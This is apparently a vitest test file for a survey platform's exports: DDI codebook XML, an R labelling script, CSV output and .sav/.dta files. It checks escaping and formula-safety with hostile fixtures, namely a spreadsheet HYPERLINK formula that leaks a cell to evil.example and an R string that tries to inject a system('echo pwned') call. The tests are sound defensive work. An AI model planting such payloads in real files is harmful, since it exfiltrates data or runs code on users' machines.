/**
 * The rest of issue 16 items 6-9 (ADR 072): the DDI-Codebook 2.5 data dictionary (well-formed, valid
 * against the DDI 2.5 schema when it is present in tests/fixtures/ddi/, and holding what an archive
 * needs), the R script that reads the wide CSV with the .sav file's labels (run with Rscript, base R),
 * formula-safety of every CSV path but not of .sav/.dta data, the audit entries, and a .sav export
 * that refuses to finish when the answers change between its two passes.
 */
import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { xmlText } from "../../app/coding/ddi.server";
import { rString } from "../../app/coding/r-script.server";
import { AnswersChangedError, exportAnswersStats } from "../../app/coding/stats-export.server";
import { codingCommands } from "../../scripts/commands/coding";
import { dictionaryCommands } from "../../scripts/commands/dictionary";
import type { CommandContext } from "../../scripts/commands/types";
import { createTestDatabase, type TestDatabase } from "../support/database";
import { addAnswer, addParticipant, createCodingFixture, withdraw, type CodingFixture } from "./fixtures";

const has = (command: string, args: string[]) => {
  try {
    execFileSync(command, args, { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
};
const hasR = has("Rscript", ["-e", "invisible(0)"]);
const hasXmllint = has("xmllint", ["--version"]);
// The DDI Alliance's schema (LGPL-3) with the files it imports: tests/fixtures/ddi/ or DDI_SCHEMA_DIR.
const SCHEMA = path.join(process.env.DDI_SCHEMA_DIR ?? path.join(__dirname, "../fixtures/ddi"), "codebook.xsd");

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const DEFINITION = {
  id: "fg-feedback",
  kind: "questionnaire",
  sections: [
    {
      id: "main",
      items: [
        { id: "what_helped", type: "long_text", text: "What helped you most?" },
        { id: "liked", type: "yes_no", text: "Did you like the group?" },
        {
          id: "support",
          type: "single_choice",
          text: "Where did you find support?",
          options: [
            { value: "family", label: "Family" },
            { value: "charity", label: "+A charity & <friends>" },
          ],
        },
        { id: "groups", type: "number", text: "=1+1 How many groups?" },
      ],
    },
  ],
};
const TRANSLATIONS = {
  ar: {
    messages: {
      "items.what_helped.text": "ما الذي ساعدك أكثر؟",
      "items.liked.text": "هل أعجبتك المجموعة؟",
      "items.support.text": "أين وجدت الدعم؟",
      "items.support.options.family.label": "العائلة",
      "items.support.options.charity.label": "جمعية خيرية",
    },
  },
  cy: {
    messages: {
      "items.what_helped.text": "Beth helpodd chi fwyaf?",
      "items.support.text": "Ble cawsoch chi gefnogaeth?",
      "items.support.options.family.label": "Teulu",
      "items.support.options.charity.label": "Elusen",
    },
  },
};

let t: TestDatabase;
let fx: CodingFixture;
let dir: string;
const out: string[] = [];
let ctx: CommandContext;
beforeAll(async () => {
  t = await createTestDatabase();
  fx = await createCodingFixture(t.db);
  await t.db
    .updateTable("instrument_version")
    .set({ definition: JSON.stringify(DEFINITION), translations: JSON.stringify(TRANSLATIONS) })
    .where("id", "=", fx.versionId)
    .execute();
  // 1 answers everything (free text a formula); 2 answers only the free text, in Welsh; 3 is erased.
  const p1 = await addParticipant(t.db, fx, { language: "ar" });
  await addAnswer(t.db, fx, p1, FORMULA, "what_helped", "ar");
  await addAnswer(t.db, fx, p1, "yes", "liked", "ar");
  await addAnswer(t.db, fx, p1, "charity", "support", "ar");
  const p2 = await addParticipant(t.db, fx, { language: "cy" });
  await addAnswer(t.db, fx, p2, "Y grŵp a'r cyfieithydd", "what_helped", "cy");
  const p3 = await addParticipant(t.db, fx);
  await addAnswer(t.db, fx, p3, "ERASED-PERSON words", "what_helped");
  await withdraw(t.db, p3, "erase");
  dir = mkdtempSync(path.join(tmpdir(), "ddi-export-"));
  ctx = { out: (l) => out.push(l), err: (l) => out.push(l), env: process.env, openDb: async () => t };
});
afterAll(() => t?.destroy());

const dictionary = dictionaryCommands.find((c) => c.name === "export dictionary")!;
const answers = codingCommands.find((c) => c.name === "export answers")!;

async function lastExport() {
  const row = await t.db
    .selectFrom("audit_event")
    .select(["detail", "subject"])
    .where("action", "=", "export")
    .orderBy("id", "desc")
    .executeTakeFirstOrThrow();
  return { subject: row.subject, ...(row.detail as { export: string; via: string; language?: string; rows: number }) };
}

describe("the DDI-Codebook 2.5 data dictionary", () => {
  it("refuses an unknown format or language with a clear message and writes nothing", async () => {
    const file = path.join(dir, "never.xml");
    await expect(dictionary.run(["--study", fx.studySlug, "--format", "spss", "--out", file], ctx)).rejects.toThrow(
      /--format must be ddi, csv or r/,
    );
    await expect(dictionary.run(["--study", fx.studySlug, "--language", "x/y", "--out", file], ctx)).rejects.toThrow(/--language/);
    await expect(dictionary.run(["--study", "no-such-study", "--out", file], ctx)).rejects.toThrow(/No study/);
    expect(existsSync(file)).toBe(false);
  });

  it("describes every variable in Arabic with its categories, missing codes and questionnaire version, and is valid DDI", async () => {
    const file = path.join(dir, "codebook.xml");
    expect(await dictionary.run(["--study", fx.studySlug, "--format", "ddi", "--language", "ar", "--out", file], ctx)).toBe(0);
    expect(out.at(-1)).toBe(`Data dictionary written to ${file}.`);
    const xml = readFileSync(file, "utf8");
    if (hasXmllint) {
      execFileSync("xmllint", ["--noout", file]);
      if (existsSync(SCHEMA)) execFileSync("xmllint", ["--noout", "--schema", SCHEMA, file], { stdio: "pipe" });
    }
    expect(xml).toMatch(
      /^<\?xml version="1.0" encoding="UTF-8"\?>\n<codeBook xmlns="ddi:codebook:2_5" [^>]*version="2.5"[^>]*xml:lang="ar">/,
    );
    expect(xml).toContain(`<IDNo agency="Tandem">${fx.studySlug}</IDNo>`);
    expect(xml).toContain(`<fileName>${fx.studySlug}-answers.sav</fileName>`);
    expect(xml).toContain("<varQnty>11</varQnty>");
    const variable = (name: string) => {
      const m = xml.match(new RegExp(`<var ID="V\\d+" name="${name}"[\\s\\S]*?</var>`));
      expect(m, name).not.toBeNull();
      return m![0];
    };
    const support = variable("support");
    expect(support).toContain("<labl>أين وجدت الدعم؟</labl>");
    expect(support).toContain("<qstnLit>أين وجدت الدعم؟</qstnLit>");
    expect(support).toContain("<catValu>1</catValu>\n        <labl>العائلة</labl>");
    expect(support).toContain("<catValu>2</catValu>\n        <labl>جمعية خيرية</labl>");
    expect(support).toContain('<catgry missing="Y" missType="skipped">\n        <catValu>-1</catValu>\n        <labl>skipped</labl>');
    expect(support).toContain('<catgry missing="Y" missType="not asked">\n        <catValu>-2</catValu>\n        <labl>not asked</labl>');
    expect(support).toContain("<version>1</version>");
    expect(support).toMatch(/<notes>Questionnaire \S+; CSV column \S+\.v1\.support<\/notes>/);
    expect(variable("liked")).toContain("<catValu>1</catValu>\n        <labl>نعم</labl>");
    expect(variable("what_helped")).toContain('<varFormat type="character"/>');
    // English where the translation has none; markup in a label is text, not XML.
    expect(variable("groups")).toContain("<labl>=1+1 How many groups?</labl>");
    expect(variable("respondent")).not.toContain("<catgry");
    expect(xml).not.toContain("ERASED");
    expect(xml).toMatch(/<varGrp type="version" name="[^"]+ v1" var="V8 V9 V10 V11">/);
    expect(await lastExport()).toMatchObject({
      subject: fx.studySlug,
      export: "data_dictionary_ddi",
      via: "cli",
      language: "ar",
      rows: 11,
    });
  });

  it("escapes markup in labels: Welsh dictionary keeps '+A charity & <friends>' where Welsh has no text for it", async () => {
    await t.db
      .updateTable("instrument_version")
      .set({ translations: JSON.stringify({ cy: { messages: { "items.support.text": "Ble cawsoch chi gefnogaeth?" } } }) })
      .where("id", "=", fx.versionId)
      .execute();
    try {
      const file = path.join(dir, "codebook-cy.xml");
      expect(await dictionary.run(["--study", fx.studySlug, "--language", "cy", "--out", file], ctx)).toBe(0);
      const xml = readFileSync(file, "utf8");
      if (hasXmllint) execFileSync("xmllint", ["--noout", file]);
      expect(xml).toContain("<labl>Ble cawsoch chi gefnogaeth?</labl>");
      expect(xml).toContain("<labl>+A charity &amp; &lt;friends&gt;</labl>");
    } finally {
      await t.db
        .updateTable("instrument_version")
        .set({ translations: JSON.stringify(TRANSLATIONS) })
        .where("id", "=", fx.versionId)
        .execute();
    }
  });
});

describe("text in XML and R", () => {
  it("drops characters XML cannot hold and escapes markup, keeping Arabic, Welsh and emoji", () => {
    const text = `a\u0001b\u000Bc <x> & "q" 'ŵ' شكرا 🙂 \uD800`;
    const escaped = xmlText(text);
    expect(escaped).toBe("abc &lt;x&gt; &amp; &quot;q&quot; &apos;ŵ&apos; شكرا 🙂 ");
    if (hasXmllint) {
      const file = path.join(dir, "text.xml");
      writeFileSync(file, `<?xml version="1.0" encoding="UTF-8"?><t a="${escaped}">${escaped}</t>`, "utf8");
      execFileSync("xmllint", ["--noout", file]);
    }
  });

  it.skipIf(!hasR)("writes R string literals that R reads back exactly, whatever they hold", () => {
    const text = 'Beth? ") ; system("echo pwned") # \\ ŵ شكرا 🙂';
    const literal = rString(text);
    expect([...literal].every((ch) => ch >= " " && ch <= "~")).toBe(true);
    const file = path.join(dir, "literal.R");
    writeFileSync(file, `cat(enc2utf8(${literal}))`, "utf8");
    expect(execFileSync("Rscript", [file], { encoding: "utf8", env: { ...process.env, LC_ALL: "C.UTF-8" } })).toBe(text);
  });
});

describe("formula-safety", () => {
  it("neutralises labels and answers that start with = + - @ in the CSV dictionary and the wide CSV, never in .sav data", async () => {
    const csvFile = path.join(dir, "dictionary.csv");
    expect(await dictionary.run(["--study", fx.studySlug, "--format", "csv", "--out", csvFile], ctx)).toBe(0);
    const table = Papa.parse<string[]>(
      readFileSync(csvFile, "utf8")
        .replace(/^\uFEFF/, "")
        .trimEnd(),
    ).data;
    const groups = table.find((row) => row[3] === "groups")!;
    expect(groups[5]).toBe("'=1+1 How many groups?");
    for (const row of table) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    expect(await lastExport()).toMatchObject({ export: "data_dictionary", via: "cli" });

    const wideFile = path.join(dir, "wide.csv");
    expect(await answers.run(["--study", fx.studySlug, "--format", "wide", "--out", wideFile], ctx)).toBe(0);
    const wide = readFileSync(wideFile, "utf8");
    expect(wide).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);

    const savFile = path.join(dir, "answers.sav");
    expect(await answers.run(["--study", fx.studySlug, "--format", "sav", "--out", savFile], ctx)).toBe(0);
    const sav = readFileSync(savFile);
    expect(sav.includes(Buffer.from(FORMULA))).toBe(true);
    expect(sav.includes(Buffer.from(`'${FORMULA}`))).toBe(false);
  });
});

describe("the R script for the wide CSV", () => {
  it.skipIf(!hasR)("gives the wide CSV the .sav file's names, Arabic labels, factor levels and missing reasons in base R", async () => {
    const wideFile = path.join(dir, "wide-for-r.csv");
    const script = path.join(dir, "answers.R");
    expect(await answers.run(["--study", fx.studySlug, "--format", "wide", "--out", wideFile], ctx)).toBe(0);
    expect(await dictionary.run(["--study", fx.studySlug, "--format", "r", "--language", "ar", "--out", script], ctx)).toBe(0);
    expect(out.at(-1)).toBe(`R script written to ${script}.`);
    expect(await lastExport()).toMatchObject({ export: "answers_r", via: "cli", language: "ar" });
    // Only ASCII in the script: the labels are escaped literals, so no wording can become code.
    expect([...readFileSync(script, "utf8")].every((ch) => ch === "\n" || (ch >= " " && ch <= "~"))).toBe(true);
    const probe = path.join(dir, "probe.R");
    writeFileSync(
      probe,
      `answers_csv <- commandArgs(TRUE)[1]
source(commandArgs(TRUE)[2])
o <- order(answers$language)
for (v in names(answers)) {
  x <- answers[[v]][o]
  cat(v, "label", enc2utf8(attr(answers[[v]], "label")), sep = "\\t"); cat("\\n")
  if (is.factor(x)) { cat(v, "levels", enc2utf8(paste(levels(x), collapse = "|")), sep = "\\t"); cat("\\n") }
  cat(v, "values", enc2utf8(paste(ifelse(is.na(x), "NA", as.character(x)), collapse = "|")), sep = "\\t"); cat("\\n")
  r <- attr(answers[[v]], "missing_reason")
  if (!is.null(r)) { cat(v, "missing", paste(ifelse(is.na(r[o]), "-", r[o]), collapse = "|"), sep = "\\t"); cat("\\n") }
}
`,
      "utf8",
    );
    const facts = execFileSync("Rscript", [probe, wideFile, script], { encoding: "utf8", env: { ...process.env, LC_ALL: "C.UTF-8" } })
      .split("\n")
      .filter(Boolean);
    const expectFact = (line: string) => expect(facts, line).toContain(line);
    expectFact("what_helped\tlabel\tما الذي ساعدك أكثر؟");
    expectFact("support\tlabel\tأين وجدت الدعم؟");
    expectFact("support\tlevels\tالعائلة|جمعية خيرية");
    expectFact("liked\tlevels\tلا|نعم");
    expectFact("groups\tlabel\t=1+1 How many groups?");
    expectFact("respondent\tlabel\tRespondent (pseudonym)");
    // Rows ordered by language: ar (participant 1), cy (participant 2).
    expectFact("support\tvalues\tجمعية خيرية|NA");
    expectFact("support\tmissing\t-|skipped");
    expectFact("liked\tvalues\tنعم|NA");
    expectFact("groups\tvalues\tNA|NA");
    expectFact("groups\tmissing\tskipped|skipped");
    // The formula-defusing quote is taken off again: in R the answer is the participant's text.
    expectFact(`what_helped\tvalues\t${FORMULA}|Y grŵp a'r cyfieithydd`);
    expect(facts.join("\n")).not.toContain("ERASED");
  });
});

describe("a .sav written in two passes", () => {
  it("refuses to finish (and is not audited) when a response arrives between the passes", async () => {
    const chunks: Uint8Array[] = [];
    let added = false;
    const write = async (chunk: Uint8Array) => {
      chunks.push(chunk);
      if (!added) {
        added = true;
        const late = await addParticipant(t.db, fx, { language: "en" });
        await addAnswer(t.db, fx, late, "arrived during the export", "what_helped");
      }
    };
    const before = await t.db
      .selectFrom("audit_event")
      .select((eb) => eb.fn.countAll<string>().as("n"))
      .executeTakeFirstOrThrow();
    await expect(exportAnswersStats(t.db, fx.scope, { userId: null, via: "cli" }, { format: "sav" }, write)).rejects.toBeInstanceOf(
      AnswersChangedError,
    );
    const after = await t.db
      .selectFrom("audit_event")
      .select((eb) => eb.fn.countAll<string>().as("n"))
      .executeTakeFirstOrThrow();
    // Not audited as an export: nothing usable left.
    expect(Number(after.n)).toBe(Number(before.n));
    // Three responses now; the next export is whole again.
    const file = path.join(dir, "again.dta");
    expect(await answers.run(["--study", fx.studySlug, "--format", "dta", "--out", file], ctx)).toBe(0);
    expect(out.at(-1)).toBe(`3 responses written to ${file}.`);
  });
});
